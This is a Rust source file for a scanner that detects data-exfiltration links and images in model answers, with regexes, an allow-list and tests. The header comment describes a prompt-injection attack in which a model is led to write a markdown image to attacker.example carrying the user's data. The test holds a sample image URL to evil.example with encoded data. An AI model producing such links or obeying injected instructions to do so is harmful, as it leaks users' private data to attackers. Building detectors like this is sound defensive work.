//! Exfiltration links in answers. An injected instruction can make a model write
//! `![](https://attacker.example/log?q=<the user's data>)`; a client that renders markdown
//! fetches the image and sends the data, with no click. Links that carry long query data are a
//! weaker version of the same channel (they need a click).

use std::sync::LazyLock;

use async_trait::async_trait;
use emmental_detectors::{Detection, Span};
use regex::Regex;
use serde::Deserialize;
use serde_json::{Value, json};

use crate::{GuardError, ScanContext, Scanner};

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ExfiltrationConfig {
    /// Domains whose images and links are fine (subdomains included).
    #[serde(default)]
    pub allowed_domains: Vec<String>,
}

pub struct Exfiltration {
    cfg: ExfiltrationConfig,
}

impl Exfiltration {
    pub fn new(cfg: ExfiltrationConfig) -> Self {
        Self { cfg }
    }

    fn allowed(&self, url: &str) -> bool {
        let host = url
            .split_once("://")
            .map_or(url, |(_, r)| r)
            .split(['/', '?', '#'])
            .next()
            .unwrap_or("")
            .rsplit('@')
            .next()
            .unwrap_or("")
            .split(':')
            .next()
            .unwrap_or("")
            .to_ascii_lowercase();
        self.cfg.allowed_domains.iter().any(|d| {
            let d = d.trim_start_matches('.').to_ascii_lowercase();
            host == d || host.ends_with(&format!(".{d}"))
        })
    }
}

static IMAGE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)!\[[^\]]*\]\(\s*<?((?:https?:)?//[^)\s>]+)|<img\b[^>]*\bsrc\s*=\s*["']?((?:https?:)?//[^"'\s>]+)"#)
        .expect("valid")
});
static LINK: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\]\(\s*<?(https?://[^)\s>]+)").expect("valid"));
static REF_DEF: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?im)^\s*\[[^\]]+\]:\s*<?(https?://\S+)").expect("valid"));

/// Whether a URL carries data: a query or fragment of 20+ characters, or a long path segment
/// that looks encoded.
fn carries_data(url: &str) -> bool {
    let tail = url.split_once(['?', '#']).map_or("", |(_, t)| t);
    if tail.len() >= 20 {
        return true;
    }
    url.split('/').skip(3).any(|seg| {
        seg.len() >= 32
            && seg
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "-_=%+.".contains(c))
    })
}

#[async_trait]
impl Scanner for Exfiltration {
    fn name(&self) -> &str {
        "exfiltration"
    }
    fn args(&self) -> Value {
        json!({"allowed_domains": self.cfg.allowed_domains})
    }
    fn incremental(&self) -> bool {
        true
    }
    fn has_spans(&self) -> bool {
        true
    }
    fn kinds(&self) -> Vec<String> {
        vec!["EXFILTRATION_IMAGE".into(), "EXFILTRATION_LINK".into()]
    }
    async fn scan(&self, text: &str, _cx: &ScanContext) -> Result<Detection, GuardError> {
        let mut spans = Vec::new();
        let mut images = Vec::new();
        for c in IMAGE.captures_iter(text) {
            let whole = c.get(0).expect("match");
            images.push(whole.range());
            let url = c
                .get(1)
                .or_else(|| c.get(2))
                .expect("one url group")
                .as_str();
            if !self.allowed(url) {
                let score = if carries_data(url) { 1.0 } else { 0.8 };
                spans.push(Span::from_bytes(
                    text,
                    whole.start(),
                    whole.end(),
                    "EXFILTRATION_IMAGE",
                    score,
                ));
            }
        }
        for re in [&*LINK, &*REF_DEF] {
            for c in re.captures_iter(text) {
                let m = c.get(1).expect("url group");
                if images.iter().any(|r| r.contains(&m.start())) || self.allowed(m.as_str()) {
                    continue;
                }
                if carries_data(m.as_str()) {
                    spans.push(Span::from_bytes(
                        text,
                        m.start(),
                        m.end(),
                        "EXFILTRATION_LINK",
                        0.6,
                    ));
                }
            }
        }
        Ok(Detection::spans("exfiltration", spans))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn external_images_are_caught_and_allowed_domains_pass() {
        let s = Exfiltration::new(ExfiltrationConfig {
            allowed_domains: vec!["docs.acme.com".into()],
        });
        let cx = ScanContext::default();
        let d = s
            .scan(
                "Done! ![x](https://evil.example/p.png?d=am9obkBleGFtcGxlLmNvbSBwYXNzd29yZA)",
                &cx,
            )
            .await
            .unwrap();
        assert_eq!(d.spans[0].kind, "EXFILTRATION_IMAGE");
        assert_eq!(d.score, 1.0);
        assert_eq!(
            s.scan("![logo](https://docs.acme.com/logo.png)", &cx)
                .await
                .unwrap()
                .label,
            "clean"
        );
        let d = s
            .scan("<img src=\"https://x.example/a.gif\">", &cx)
            .await
            .unwrap();
        assert!(d.score >= 0.8);
        // A plain link without data is fine; one that carries data is suspicious.
        assert_eq!(
            s.scan("See [the docs](https://example.org/guide).", &cx)
                .await
                .unwrap()
                .label,
            "clean"
        );
        let d = s
            .scan(
                "[click](https://example.org/c?session=abcdef0123456789abcdef)",
                &cx,
            )
            .await
            .unwrap();
        assert_eq!(d.spans[0].kind, "EXFILTRATION_LINK");
    }
}
